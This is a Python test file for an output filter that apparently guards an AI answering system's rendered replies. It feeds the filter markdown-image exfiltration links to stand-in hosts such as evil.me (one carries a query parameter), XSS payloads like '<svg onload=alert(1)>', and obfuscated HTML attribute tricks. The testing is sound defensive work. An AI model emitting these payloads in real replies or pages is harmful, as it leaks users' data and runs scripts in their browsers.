"""What a reply that the guard let out is once it is rendered: where it leads, what it loads."""

import re
from html.parser import HTMLParser
from itertools import pairwise
from urllib.parse import unquote, urljoin, urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from streams.answering.found import Found
from streams.answering.generating.generate import Unfinished
from streams.answering.grounding.extract import extract
from streams.answering.guard.links import Known
from streams.answering.guard.output import OutputFilter
from tests.unit.answering.guard.code import CODE
from tests.unit.answering.scripted import head_of, hit

PAGE = "https://reader.example.net/answers/7"
HOSTS = {"kb.example.org", "reader.example.net"}
KNOWN = ["Open https://kb.example.org/kb/1 or https://kb.example.org/a_(b)?c=1&d=2 in the portal."]
RENDERERS = [MarkdownIt("commonmark"), MarkdownIt("commonmark", {"html": True})]
for one in RENDERERS:
    one.validateLink = lambda _: True

PIECES = [
    "![", "[", "](", "][", "]:", "]", "(", ")", "<", ">", "x", "portal", "`", "\\", "/", "//", "\n", "\n\n",
    " ", '"', "'", "=", "!", "> ", "- ", "<img ", "<div ", "<a ", "</a>", "<svg/", "<!--", "-->", "<pre>",
    "src=", "href=", "style=", "onload=", "srcset=", "background:url(", "https:", "http:", "HTTPS:",
    "javascript:", "data:", "3405803781", "0x7f.1", "evil.me", "evil.example", "bit.ly", "kb.example.org",
    "/kb/1", "@", "?q=1", "&#47;", "&sol;", "&colon;", "&Tab;", "&NewLine;", "%2f", "\t", "&amp;",
    "/a_(b)?c=1&d=2", ".", ":", ";", "é",
    "![a](", "[a](", "![a](<", "[a](<", "![a][x]\n\n[x]:", "<img src=", "<img alt='>' src=\"", "<https:",
    "<div style='", "<img =a=", "\n> ", "<x<", "<svg:image ", "data=", "onload =", "<img/alt=a ",
]  # fmt: skip
TEXTS = st.lists(st.sampled_from(PIECES), max_size=14).map("".join)


class Loads(HTMLParser):
    """Where a page leads to and what it loads: an unknown element only by events and a style."""

    def __init__(self):
        super().__init__()
        self.images, self.targets, self.scripts = [], [], []

    def handle_starttag(self, tag, attrs):
        if tag in {"script", "style"}:
            self.scripts.append(tag)
        named = re.fullmatch(r"[a-z][a-z0-9_:-]*", tag)
        for name, value in attrs:
            if named and name in {"src", "srcset", "poster", "background"}:
                self.images.append(value or "")
            elif re.fullmatch(r"on[a-z]+|style", name):
                self.scripts += re.findall(r"[(:].*", value or "")
            elif named and name in {"href", "action", "data", "xlink:href"}:
                self.targets.append(value or "")


def let_out(text, size=1000):
    output, out = OutputFilter(Known(KNOWN)), ""
    try:
        for at in range(0, len(text), size):
            out += output.feed(text[at : at + size])
        return out + output.feed("", done=True)
    except Unfinished:
        return out


def leaving(target, hosts=HOSTS):
    """The host that a browser goes to for `target` on the reader's page; empty for one of `hosts`."""
    plain = re.sub(r"[\t\n\r]", "", target.strip()).replace("\\", "/")
    plain = re.sub(r"^(https?):/*", r"\1://", plain, flags=re.IGNORECASE)
    plain = re.sub(r"^/{2,}", "//", plain)
    try:
        place = urlsplit(urljoin(PAGE, plain))
    except ValueError:
        return ""
    if place.scheme not in {"http", "https"}:
        return target.partition(":")[2]
    # Of punctuation alone no host's name is made.
    name = re.sub(r"[\W_]*", "", unquote(place.hostname or ""))
    return "" if place.hostname in hosts else name


@settings(max_examples=600, deadline=None)
@given(TEXTS, st.integers(1, 7))
@example("![a](https:\\\\3405803781/x?q=alice)", 1)
@example("[Reset](/\\evil.me/login)", 3)
@example("<img alt='<b> ' src=//evil.me>", 2)
@example("> <img\n> src='//3405803781/x'>", 3)
@example("<b x=y<img src =\n//3405803781/x>", 1)
@example("<img =a='b'src='//3405803781/x'>", 1)
@example('<img a=b\u00a0c="x src=//3405803781/x>', 1)
@example("> <img\r> src=//3405803781/x>", 1)
@example("<https:/img src=//3405803781/x>", 1)
def test_no_target_that_nobody_knows_is_left_however_it_is_disguised(text, size):
    out = let_out(text, size)
    for page in [out, *(renderer.render(out) for renderer in RENDERERS)]:
        found = Loads()
        found.feed(page.replace("<![", ""))
        found.close()
        assert not [image for image in found.images if leaving(image, {"reader.example.net"})], out
        assert not found.scripts, out
        assert not [target for target in found.targets if leaving(target)], out


@given(TEXTS, st.lists(st.integers(0, 60), max_size=8))
def test_what_is_let_out_of_markup_does_not_depend_on_how_it_is_cut(text, cuts):
    def end(pieces):
        output, out = OutputFilter(Known(KNOWN)), ""
        try:
            for piece in pieces:
                out += output.feed(piece)
            return out + output.feed("", done=True)
        except Unfinished:
            return None

    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    assert end(text[a:b] for a, b in pairwise(places)) == end([text])


@given(TEXTS)
@example("!![a](https://evil.me/x)")
@example("<img src=//evil.me/x>")
def test_a_quoted_passage_loads_nothing(text):
    one = hit(text.strip() or "x", name="q")
    quoted = extract([Found(one, head_of(one))], "portal?", "en")
    for page in [quoted, *(renderer.render(quoted) for renderer in RENDERERS)]:
        found = Loads()
        found.feed(page.replace("<![", ""))
        found.close()
        assert not [image for image in found.images if leaving(image, {"reader.example.net"})], quoted
        assert not found.scripts, quoted


@pytest.mark.parametrize("size", [1, 7, 1000])
@pytest.mark.parametrize("text", CODE)
def test_code_and_markup_that_load_nothing_are_let_out(text, size):
    assert let_out(text, size) == text
    assert let_out(f"So:\n\n```\n{text}\n```\n", size) == f"So:\n\n```\n{text}\n```\n"


@pytest.mark.parametrize("size", [1, 7, 1000])
@pytest.mark.parametrize(
    "markup",
    [
        "<svg onload=alert(1)>",
        "<x:y @click=f(1)>",
        "<b v-html='a.b'>",
        "<meta content='0;url=//3405803781'>",
        "<object data=//3405803781>",
        "<body background='//3405803781'>",
        "<animate values=/x:y>",
        "<form><button formaction='//3405803781'>",
        "<i<img src=//3405803781>",
        "<b a='>' c=\"style='d:e\" style='f:g'>",
        "> <img\n> src=//3405803781>",
        "> > <img alt=x\n> >   src\n> > =\n> > //3405803781>",
        "<script>f(1)</script>",
        "<style\n>a{}</style>",
    ],
)
def test_markup_that_loads_or_runs_something_is_not(markup, size):
    for text in [markup, f"i<n; x = y/2 {markup}"]:
        assert len(let_out(text + " Done.", size)) < len(text)


@pytest.mark.parametrize(
    "text", ["See [it](https://kb.example.org/a_(b)?c=1&amp;d=2).", "Use a\\_b and <b>x</b>."]
)
def test_what_is_known_is_let_out(text):
    assert let_out(text, 1) == text
